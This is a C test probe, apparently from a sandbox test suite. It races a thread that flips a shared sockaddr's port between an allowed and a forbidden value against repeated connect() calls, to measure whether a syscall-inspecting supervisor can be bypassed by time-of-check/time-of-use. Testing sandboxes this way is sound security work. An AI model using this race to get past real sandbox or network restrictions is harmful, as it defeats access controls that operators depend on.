/* probe_race.c — the time-of-check/time-of-use attack on a supervisor that reads the sockaddr
 * and then lets the child's own syscall run. A flipper thread swaps the port of ONE shared
 * sockaddr between ALLOWED and FORBIDDEN, holding each value ~2 µs (volatile stores: a compiler
 * would otherwise drop the first of two stores in a row), while the main thread connects N times.
 * Every successful connect is checked with getpeername: which port did it really reach?
 *   probe_race IP ALLOWED FORBIDDEN N
 * prints  COUNT forbidden=F allowed=A denied=D other=O  (bounded by N and by 120 s). */
#include "probe.h"

#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

static struct sockaddr_in shared;
static atomic_int stop;
static unsigned short p_allowed, p_forbidden;

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

static void hold(uint64_t ns)
{
	uint64_t t = now_ns() + ns;
	while (now_ns() < t)
		;
}

static void *flipper(void *arg)
{
	(void)arg;
	volatile unsigned short *port = &shared.sin_port;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		*port = htons(p_allowed);
		hold(2000);
		*port = htons(p_forbidden);
		hold(2000);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	shared = probe_v4(argv[1], atoi(argv[2]));
	p_allowed = (unsigned short)atoi(argv[2]);
	p_forbidden = (unsigned short)atoi(argv[3]);
	long n = atol(argv[4]);
	/* Blocked mode: no IP socket at all — report that, it is the denial. */
	int s0 = socket(AF_INET, SOCK_STREAM, 0);
	if (s0 < 0)
		return probe_denied("socket", errno);
	close(s0);
	pthread_t t;
	pthread_create(&t, NULL, flipper, NULL);
	long forb = 0, allow = 0, denied = 0, other = 0;
	int first_err = 0;
	uint64_t deadline = now_ns() + 120ull * 1000000000u;
	for (long i = 0; i < n && now_ns() < deadline; i++) {
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0) {
			other++;
			continue;
		}
		if (connect(s, (struct sockaddr *)&shared, sizeof shared) == 0) {
			struct sockaddr_in peer;
			socklen_t pl = sizeof peer;
			if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
			    ntohs(peer.sin_port) == p_forbidden)
				forb++;
			else
				allow++;
		} else {
			if (!first_err)
				first_err = errno;
			denied++;
		}
		struct linger lg = {1, 0}; /* RST: no TIME_WAIT pile-up over 20,000 connects */
		setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
		close(s);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("COUNT forbidden=%ld allowed=%ld denied=%ld other=%ld deny_errno=%s\n", forb, allow,
	       denied, other, first_err ? probe_errname(first_err) : "none");
	return 0;
}
